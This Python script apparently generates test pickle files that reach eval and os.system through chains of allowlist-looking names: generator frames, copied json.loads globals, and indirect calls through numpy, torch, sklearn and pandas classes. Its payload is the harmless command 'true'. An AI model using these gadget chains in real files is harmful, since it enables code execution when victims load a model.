# Names that are all allowed lead from an object to a frame and so to eval; attributes of an instance
# stand in for methods that the unpickler, or a library, calls on it.
from pickle_asm import *


def name(module, qualified):
    return raw(stack_global(module, qualified))


def made(module, qualified, *values):
    return raw(call4(module, qualified, *values))


def element(holder, key):
    return made("_operator", "getitem", holder, key)


def attribute(holder, key):
    return made("builtins", "getattr", holder, key)


def pairs(**items):
    return EMPTY_DICT + b"".join(constant(key) + value.code + SETITEM for key, value in items.items())


def slots(holder, **items):
    return raw(holder.code + NONE + pairs(**items) + TUPLE2 + BUILD)


def instance(module, qualified, **attributes):
    """One whose own attributes are these."""
    return raw(call4(module, qualified) + pairs(**attributes) + BUILD)


def appended(holder, value):
    return raw(holder.code + constant(value) + APPEND)


def program(file, value):
    save(file, framed(value.code + STOP))


# A generator that has not begun has a frame, and that has the built-in names.
GENERATOR = made("builtins", "iter", made("ipaddress", "IPv4Network", "10.0.0.0/30"))
BUILTINS = attribute(attribute(GENERATOR, "gi_frame"), "f_builtins")
EVAL = element(BUILTINS, "eval")
CODE = "__import__('os').system('true')"
program("frame.pkl", appended(instance("collections", "OrderedDict", append=EVAL), CODE))
program("frame_by_path.pkl", raw(made("builtins", "list", made("builtins", "map",
        made("operator", "attrgetter", "gi_frame.f_builtins"), raw(EMPTY_LIST + GENERATOR.code + APPEND))).code))
program("frame_by_two.pkl", attribute(attribute(GENERATOR, "gi_frame"), "f_back"))

# The same by a function that copies attributes between objects: json.loads' globals come into a dictionary.
GLOBALS = raw(EMPTY_DICT + put(7))
HOLDER = instance("collections", "UserDict", __globals__=GLOBALS)
COPIER = made("functools", "partial", name("functools", "update_wrapper"), HOLDER, name("json", "loads"), (),
              raw(args("__globals__")))
COPIED = element(made("collections", "defaultdict", COPIER), "any")
OWN = raw(COPIED.code + POP + get(7))
program("copied_globals.pkl", appended(
    instance("collections", "OrderedDict", append=element(element(OWN, "__builtins__"), "eval")), CODE))

# What stands in for a method of the object itself: extend goes before append.
HELD = element(raw(constant({"x": 1})), "x")
for op, key, container in [("append", "append", "OrderedDict"), ("extend", "extend", "UserList"), ("add", "add", "OrderedDict")]:
    body = instance("collections", container, **{key: HELD}).code
    end = {"append": constant(1) + APPEND, "extend": MARK + constant(1) + constant(2) + APPENDS,
           "add": MARK + constant(1) + ADDITEMS}[op]
    program(f"stands_for_{op}.pkl", raw(body + end))
NEST = instance("argparse", "Namespace", __setstate__=name("json", "loads"))
program("stands_for_setstate.pkl", raw(NEST.code + constant("[1]") + BUILD))
program("stands_for_array.pkl", made("numpy", "float64", instance("argparse", "Namespace", __array__=name("json", "loads"))))
program("state_by_call.pkl", appended(raw(call4("collections", "OrderedDict") + made("builtins", "dict",
        raw(constant([("append", 1)]))).code + BUILD), 1))
program("state_not_kept.pkl", appended(raw(call4("collections", "OrderedDict") + EMPTY_DICT + MARK + b"".join(
        constant(f"k{i}") + constant(i) for i in range(80)) + constant("append") + name("json", "loads").code +
        SETITEMS + BUILD), "[1]"))
program("factory_later.pkl", slots(made("collections", "defaultdict", None), default_factory=HELD))
program("element_of_own.pkl", element(made("collections", "defaultdict", name("builtins", "list")), "any"))

# What is called through a caller is as little known as what is called at once.
LATER = attribute(made("numpy.random.mtrand", "RandomState"), "bit_generator")
program("far_method.pkl", attribute(attribute(attribute(LATER, "cffi"), "ffi"), "dlopen"))
program("map_of_method.pkl", made("builtins", "list", made("builtins", "map", attribute(
    made("logging", "PlaceHolder", None), "append"), raw(constant(["x"])))))
RUN = name("acme", "run")
CALLED_THROUGH = made("types", "GenericAlias", RUN, ())
program("map_of_type.pkl", made("builtins", "list", made("builtins", "map", CALLED_THROUGH, raw(constant(["true"])))))
KEPT = made("functools", "partial", attribute(made("pathlib", "PurePosixPath", "a"), "with_name"), "b")
program("format_asks.pkl", made("_operator", "mod", "%(any)s", made("collections", "defaultdict", KEPT)))
program("compares.pkl", made("_operator", "lt", raw(args(made("functools", "cmp_to_key", KEPT))), ()))
HOOKED = raw(stack_global("torch.nn.modules.module", "Module") + EMPTY_TUPLE + NEWOBJ + pairs(hook=KEPT) + BUILD)
program("map_of_instance.pkl", made("builtins", "list", made("builtins", "map", HOOKED, raw(constant(["true"])))))
program("observer.pkl", made("torch.ao.quantization.fake_quantize", "FakeQuantize", RUN))
TYPED = made("torch._tensor", "_rebuild_from_type_v2", name("collections", "OrderedDict"), name("collections", "OrderedDict"),
             (), raw(pairs(append=name("json", "loads"))))
program("state_by_torch.pkl", appended(TYPED, "[1]"))
LATER_RUN = attribute(made("logging", "PlaceHolder", None), "append")
for maker, *given in [("sklearn.metrics._dist_metrics.PyFuncDistance", LATER_RUN), ("sklearn.neighbors._ball_tree.BallTree", [1], 40, LATER_RUN),
                      ("scipy.sparse.linalg._interface.LinearOperator", (1, 1), LATER_RUN), ("pandas.core.groupby.grouper.Grouping", [1], LATER_RUN),
                      ("torch.optim.lr_scheduler.CyclicLR", None, 0, 1, 2, 2, "triangular", 1, LATER_RUN)]:
    module, name_of_it = maker.rsplit(".", 1)
    program(f"calls_at_once_{name_of_it}.pkl", made(module, name_of_it, *given))
program("items_by_cython.pkl", appended(made("pandas._libs.arrays", "__pyx_unpickle_NDArrayBacked", name("argparse", "Namespace"), 1,
        raw(args(raw(pairs(append=RUN))))), "true"))
